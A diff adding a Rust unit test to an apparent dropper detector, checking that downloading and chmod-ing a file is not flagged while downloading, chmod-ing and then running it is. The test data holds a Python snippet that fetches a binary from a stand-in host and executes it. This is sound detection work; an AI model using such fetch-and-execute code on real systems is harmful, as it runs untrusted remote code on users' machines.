@@ -1245,3 +1245,18 @@ fn code_hidden_in_downloaded_pixels_is_code_from_the_network() {
         f.dynamic_code
     );
 }
+
+#[test]
+fn a_chmod_command_makes_executable_it_does_not_run() {
+    let only_chmod = "import wget, subprocess\nwget.download('https://m.example.top/model.llamafile', '/tmp/m.llamafile')\nsubprocess.run(['chmod', '+x', '/tmp/m.llamafile'], check=True)\n";
+    let f = facts(only_chmod);
+    assert!(f.droppers.is_empty(), "{:#?}", f.droppers);
+    let then_run = format!("{only_chmod}subprocess.Popen(['/tmp/m.llamafile', '--server'])\n");
+    let f = facts(&then_run);
+    assert_eq!(f.droppers.len(), 1, "{:#?}", f.droppers);
+    assert!(
+        f.droppers[0].steps.iter().any(|s| s.what.contains("chmod")),
+        "{:#?}",
+        f.droppers
+    );
+}
